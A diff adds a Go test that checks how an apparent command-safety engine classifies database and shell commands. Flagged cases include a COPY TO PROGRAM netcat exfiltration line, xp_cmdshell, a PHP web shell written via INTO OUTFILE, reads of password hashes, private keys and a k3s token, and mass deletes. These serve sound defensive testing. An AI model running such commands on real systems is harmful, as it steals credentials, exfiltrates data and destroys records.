@@ -107,3 +107,56 @@ func TestPlansChainsAndTunables(t *testing.T) {
 		{`mongorestore --drop dump/`, "data:restore-replace"},
 	})
 }
+
+// TestSQLLoginsAndEveryRow covers SQL that reaches past a table's rows:
+// logins' passwords changed or read, access revoked or opened to everyone,
+// the server made to run commands or write files, and WHERE clauses that
+// select every row.
+func TestSQLLoginsAndEveryRow(t *testing.T) {
+	t.Parallel()
+	e := newEngine(t, DefaultConfig())
+	checkDecisions(t, e, []ruleCase{
+		{`psql -U postgres -c "ALTER USER postgres WITH PASSWORD 'hunter2';"`, "sql-destructive"},
+		{`psql -U postgres -c "CREATE USER app_test WITH PASSWORD 'test';"`, ""},
+		{`mysql -u root -e "SET PASSWORD FOR 'root'@'localhost' = 'x'"`, "sql-destructive"},
+		{`clickhouse-client -q "ALTER USER default IDENTIFIED WITH no_password"`, "sql-destructive"},
+		{`mysql -u root -e "UPDATE mysql.user SET authentication_string='' WHERE User='root'"`, "sql-destructive"},
+		{`psql -c "REVOKE ALL ON DATABASE app FROM app_user;"`, "sql-destructive"},
+		{`psql -c "REVOKE ALL ON SCHEMA public FROM PUBLIC;"`, ""},
+		{`psql -c "GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC;"`, "sql-destructive"},
+		{`psql -c "GRANT SELECT ON orders TO reporting;"`, ""},
+		{`snowsql -c prod -q "GRANT ROLE ACCOUNTADMIN TO USER intern"`, "sql-destructive"},
+		{`cqlsh -e "GRANT ALL PERMISSIONS ON ALL KEYSPACES TO guest;"`, "sql-destructive"},
+		{`psql -c "ALTER TABLE payments DISABLE ROW LEVEL SECURITY;"`, "sql-destructive"},
+		{`psql -c "ALTER TABLE payments ENABLE ROW LEVEL SECURITY;"`, ""},
+		{`psql -Atc "SELECT rolname, rolpassword FROM pg_authid;"`, "secret-print"},
+		{`psql -c "SELECT * FROM pg_shadow"`, "secret-print"},
+		{`psql -c "SELECT usename, usesuper FROM pg_user"`, ""},
+		{`mysql -e "SELECT user, host FROM mysql.user"`, ""},
+		{`sqlcmd -S db01 -Q "EXEC master..xp_cmdshell 'whoami'"`, "sql-destructive"},
+		{`psql -c "COPY users TO PROGRAM 'nc 198.51.100.9 4444'"`, "sql-destructive"},
+		{`psql -c "\copy users TO 'users.csv' CSV HEADER"`, ""},
+		{`mysql -e "SELECT LOAD_FILE('/etc/passwd')"`, "sql-destructive"},
+		{`mysql shop -e "SELECT '<?php system(1); ?>' INTO OUTFILE '/var/www/html/s.php'"`, "sql-destructive"},
+		{`mysql shop -e "SELECT * FROM orders INTO OUTFILE '/tmp/orders.csv'"`, ""},
+		{`duckdb -c "SELECT * FROM duckdb_secrets(redact=false)"`, "sql-destructive"},
+		{`duckdb -c "SELECT name, type FROM duckdb_secrets()"`, ""},
+		{`psql -c "DELETE FROM orders WHERE id > 0;"`, "sql-destructive"},
+		{`psql -c "DELETE FROM orders WHERE id > 4711;"`, ""},
+		{`psql -c "DELETE FROM notifications WHERE created_at IS NOT NULL;"`, "sql-destructive"},
+		{`psql -c "DELETE FROM notifications WHERE read_at IS NULL AND user_id = 7;"`, ""},
+		{`sqlcmd -S db01 -d Sales -Q "delete dbo.OrderLines"`, "sql-destructive"},
+		{`sqlcmd -S db01 -d Sales -Q "DELETE dbo.OrderLines WHERE OrderId = 9"`, ""},
+		{`clickhouse-client -q "ALTER TABLE users UPDATE email = '' WHERE 1"`, "sql-destructive"},
+		{`mysql -e "ALTER TABLE t MODIFY ts TIMESTAMP ON UPDATE CURRENT_TIMESTAMP"`, ""},
+		{`echo "MATCH (u:User) DETACH DELETE u;" | cypher-shell -u neo4j`, "data:graph-delete"},
+		{`cypher-shell "MATCH (u:User) WHERE u.id = 7 DETACH DELETE u"`, ""},
+		{`gcloud spanner databases execute-sql orders --instance=prod --sql="DELETE FROM Orders WHERE true"`, "sql-destructive"},
+		{`gcloud spanner databases execute-sql orders --instance=prod --sql="SELECT COUNT(*) FROM Orders"`, ""},
+		{`gcloud spanner databases ddl update orders --instance=prod --ddl="DROP TABLE Orders"`, "sql-destructive"},
+		{`openssl x509 -in /etc/letsencrypt/live/example.com/fullchain.pem -noout -dates`, ""},
+		{`cat /etc/letsencrypt/live/example.com/privkey.pem`, "paths:credential-read"},
+		{`pacman -Rdd --print glibc`, ""},
+		{`sudo cat /var/lib/rancher/k3s/server/node-token`, "paths:credential-read"},
+	})
+}
